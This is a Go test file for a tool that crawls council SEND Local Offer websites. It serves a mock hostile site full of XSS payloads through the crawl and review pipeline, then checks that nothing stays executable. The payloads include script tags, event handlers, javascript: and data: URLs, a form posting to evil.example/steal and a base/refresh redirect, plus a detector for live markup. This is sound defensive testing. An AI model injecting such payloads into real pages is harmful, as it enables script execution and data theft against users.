package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/localoffer/localoffer/config"
	"github.com/localoffer/localoffer/evidence"
	"github.com/localoffer/localoffer/extract"
	"github.com/localoffer/localoffer/review"
	"github.com/localoffer/localoffer/store"
	"golang.org/x/net/html"
)

// xssPayload is written into every part of a crawled page that ends up on
// a reviewer's screen: titles, headings, passages, link text and URLs.
const xssPayload = `<script>alert('lo-xss')</script><img src=x onerror="alert('lo-xss')"><svg onload="alert('lo-xss')">`

// hostilePagesSite is a Local Offer whose pages say the right things about
// EHC needs assessments and the graduated approach (so the tool suggests
// them as evidence) wrapped in script injection of every kind.
func hostilePagesSite(t *testing.T) *httptest.Server {
	pages := map[string]string{
		"/send/": `<h1>SEND Local Offer ` + xssPayload + `</h1>
<p>Our Local Offer ` + xssPayload + ` explains support for children with special educational needs and disabilities.</p>
<ul><li><a href="/send/ehc">Request an EHC needs assessment ` + xssPayload + `</a></li>
<li><a href="/send/graduated">The graduated approach</a></li>
<li><a href="javascript:alert('lo-xss')">Click</a></li>
<li><a href="/send/%22%3E%3Cscript%3Ealert('lo-xss')%3C/script%3E">odd</a></li></ul>`,
		"/send/ehc": `<h1>Requesting an EHC needs assessment ` + xssPayload + `</h1>
<p>Parents, young people and schools can ask the council for an Education, Health and Care needs assessment. ` + xssPayload + `
Fill in the request form and send it to the SEND assessment team; we decide within six weeks whether to assess.</p>
<iframe src="javascript:alert('lo-xss')"></iframe><form action="https://evil.example/steal"><input name=x></form>
<a href="data:text/html,<script>alert('lo-xss')</script>">data link</a>`,
		"/send/graduated": `<h1 onclick="alert('lo-xss')">The graduated approach: assess, plan, do, review</h1>
<p style="background:url(javascript:alert('lo-xss'))">Early years settings, schools and colleges follow the graduated approach: assess, plan, do and review, with SEN support and the SENCO. ` + xssPayload + `</p>`,
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/robots.txt" {
			io.WriteString(w, "User-agent: *\nAllow: /\n")
			return
		}
		body, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		head := ""
		if r.URL.Path == "/send/graduated" {
			// Only on a leaf: a base element moves every link off the site.
			head = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`
		}
		fmt.Fprintf(w, `<!doctype html><html><head><title>Local Offer %s</title>%s<script>alert('lo-xss')</script></head><body><main>%s</main></body></html>`, xssPayload, head, body)
	}))
	t.Cleanup(srv.Close)
	return srv
}

// liveMarkup returns what in an HTML page could run the payload: inline
// scripts or scripts from elsewhere, event-handler attributes, javascript:
// or data: URLs in links and sources, base and refresh elements, frames
// other than the UI's own sandboxed viewer.
func liveMarkup(page string) []string {
	var found []string
	z := html.NewTokenizer(strings.NewReader(page))
	inScript := false
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return found
		}
		tok := z.Token()
		switch tt {
		case html.TextToken:
			if inScript && strings.TrimSpace(tok.Data) != "" {
				found = append(found, "inline script: "+tok.Data)
			}
		case html.EndTagToken:
			if tok.Data == "script" {
				inScript = false
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			attr := map[string]string{}
			for _, a := range tok.Attr {
				k := strings.ToLower(a.Key)
				attr[k] = a.Val
				v := strings.ToLower(strings.TrimSpace(a.Val))
				if strings.HasPrefix(k, "on") {
					found = append(found, fmt.Sprintf("<%s %s=%q>", tok.Data, a.Key, a.Val))
				}
				if (k == "href" || k == "src" || k == "action" || k == "formaction") && (strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "data:text/html")) {
					found = append(found, fmt.Sprintf("<%s %s=%q>", tok.Data, a.Key, a.Val))
				}
			}
			switch tok.Data {
			case "script":
				inScript = true
				if !strings.HasPrefix(attr["src"], "/static/") {
					found = append(found, fmt.Sprintf("<script src=%q>", attr["src"]))
				}
			case "base":
				found = append(found, "<base>")
			case "meta":
				if strings.EqualFold(attr["http-equiv"], "refresh") {
					found = append(found, "<meta http-equiv=refresh>")
				}
			case "iframe", "frame", "object", "embed":
				if !strings.HasPrefix(attr["src"], "/snapshot/") || attr["sandbox"] == "" || strings.Contains(attr["sandbox"], "allow-scripts") {
					found = append(found, fmt.Sprintf("<%s src=%q sandbox=%q>", tok.Data, attr["src"], attr["sandbox"]))
				}
			}
		}
	}
}

// TestHostilePagesThroughPipeline crawls and assesses a site whose pages
// carry script injection in every field, then opens every review page a
// reviewer would: the authority page with the suggested evidence, each
// snapshot page and each captured page in the viewer. No payload may be
// live anywhere, while the words around it must still be there to read.
func TestHostilePagesThroughPipeline(t *testing.T) {
	site := hostilePagesSite(t)
	dir := t.TempDir()
	cfgPath := writeConfig(t, dir, "0s", site.URL+"/send/")
	dbPath := filepath.Join(dir, "s.db")
	for _, args := range [][]string{{"crawl"}, {"assess"}} {
		if out, eo, code := runCLI(t, append([]string{"--config", cfgPath, "--db", dbPath}, args...)...); code != 0 {
			t.Fatalf("%v: exit %d\n%s%s", args, code, out, eo)
		}
	}
	db, err := store.Open(dbPath)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	items, err := db.Items("la-0", "")
	if err != nil || len(items) == 0 {
		t.Fatalf("assess suggested no evidence on the hostile site (%v)", err)
	}
	hash, _ := review.HashPassword("pipeline test password")
	if err := db.CreateUser("test", evidence.User{Name: "viewer", Role: evidence.Viewer, PasswordHash: hash}); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	srv, err := review.NewServer(review.Config{DB: db, Rubric: config.DefaultRubric(), Authorities: cfg, Extract: extract.Any})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	hc, _, err := signIn(ts.URL, "viewer", "pipeline test password")
	if err != nil {
		t.Fatal(err)
	}
	get := func(path string) string {
		t.Helper()
		resp, err := hc.Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("GET %s = %d", path, resp.StatusCode)
		}
		return string(b)
	}
	pages := []string{"/", "/a/la-0"}
	snaps := map[string]bool{}
	for _, it := range items {
		if it.SnapshotID != "" && !snaps[it.SnapshotID] {
			snaps[it.SnapshotID] = true
			pages = append(pages, "/snapshot/"+it.SnapshotID+"?item="+it.ID, "/snapshot/"+it.SnapshotID+"/raw?item="+it.ID)
		}
	}
	rec, err := db.LatestCrawl("la-0")
	if err != nil {
		t.Fatal(err)
	}
	if err := db.CrawlSnapshots(rec.ID, func(s *store.Snapshot) error {
		if s.Kind == "html" && !snaps[s.ID] {
			snaps[s.ID] = true
			pages = append(pages, "/snapshot/"+s.ID, "/snapshot/"+s.ID+"/raw")
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if n := len(liveMarkup(xssPayload + `<a href="javascript:x">`)); n < 4 {
		t.Fatalf("the detector finds %d live parts in the raw payload, want 4", n)
	}
	sawWords := false
	for _, p := range pages {
		body := get(p)
		for _, live := range liveMarkup(body) {
			t.Errorf("GET %s: live markup from the crawled page: %s", p, live)
		}
		if strings.Contains(body, "lo-xss") && regexp.MustCompile(`(?i)<(script|img|svg)[^>]*lo-xss`).MatchString(body) {
			t.Errorf("GET %s: a payload element survived unescaped", p)
		}
		sawWords = sawWords || strings.Contains(body, "needs assessment")
	}
	if !sawWords {
		t.Errorf("the text around the payloads is gone from every page")
	}
	t.Logf("%d evidence items, %d pages checked", len(items), len(pages))
}
